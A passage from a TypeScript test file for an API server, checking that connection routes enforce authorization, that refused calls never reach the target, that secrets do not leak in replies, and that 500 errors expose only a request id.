    const root = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
      token: rootAdmin,
      body: {
        type: 'http',
        fields: { baseUrl: 'https://203.0.113.11/api', auth: { method: 'bearer', token: '***' } },
      },
    });
    expect(root.status, root.text).toBe(200);
  });
});

// ---- the table ---------------------------------------------------------------------------------

describe('authorization table', () => {
  it.each(ROWS)('$name', async (row) => {
    const token = tokens.get(label(row.principal, row.scope)) as string;
    const path = `/tbl/${row.target.id}`;
    const deliveredBefore = sink.at(path).length;
    const reply = await row.route.call(token, row.target);
    const e = row.expect;
    if (!e.ok) {
      expectRefused(reply, e.code);
      expect(sink.at(path).length, 'requests the connection target received').toBe(deliveredBefore);
      return;
    }
    const s = e.success;
    expect(reply.status, reply.text).toBe(s.status);
    if (s.kind === 'value') {
      expect(s.pick(reply.body)).toBe(s.expect(row.target));
      expectNoCanary(reply, [row.target.id.split('-')[0] as string]);
    } else {
      expectNoCanary(reply);
    }
    if (s.kind === 'delivered') {
      expect(reply.body.ok, reply.text).toBe(true);
      const got = sink.at(path).slice(deliveredBefore);
      expect(got.length, 'requests the connection target received').toBe(1);
      expect(got[0]?.headers.authorization).toBe(`Bearer ${row.target.value}`);
    } else {
      expect(sink.at(path).length, 'requests the connection target received').toBe(deliveredBefore);
    }
  });

  it('has the rows it should', () => {
    expect(ROWS.length).toBe(ROUTES.length * PRINCIPALS.length * SCOPES.length * TARGETS.length);
  });
});

// ---- 500 replies -------------------------------------------------------------------------------

describe('500 replies', () => {
  it('none of the calls above was answered 500', () => {
    const failed = replies.filter((r) => r.status >= 500 && r.status !== 503);
    expect(failed.map((r) => `${r.status} ${r.text.slice(0, 200)}`)).toEqual([]);
  });

  it('a 500 says "internal error" and a request id only', async () => {
    const broken = await startTestServer({ resolveHost });
    try {
      const admin = (await broken.token('admin', { reveal: true })).token;
      expect((await broken.call('GET', '/api/v1/audit?limit=1', { token: admin })).status).toBe(200);
      // The database closed under the running server: reading the audit trail fails inside.
      await broken.server.services.backend.database.close();
      const r = await broken.call('GET', '/api/v1/audit?limit=1', { token: admin });
      expect(r.status, r.text).toBe(500);
      expect(Object.keys(r.body.error).sort()).toEqual(['code', 'message', 'requestId']);
      expect(r.body.error).toEqual({
        code: 'internal',
        message: `internal error (request ${r.body.error.requestId}): the server log has the details under this request id`,
        requestId: expect.any(String),
      });
    } finally {
      await broken.close().catch(() => {});
    }
  });
});
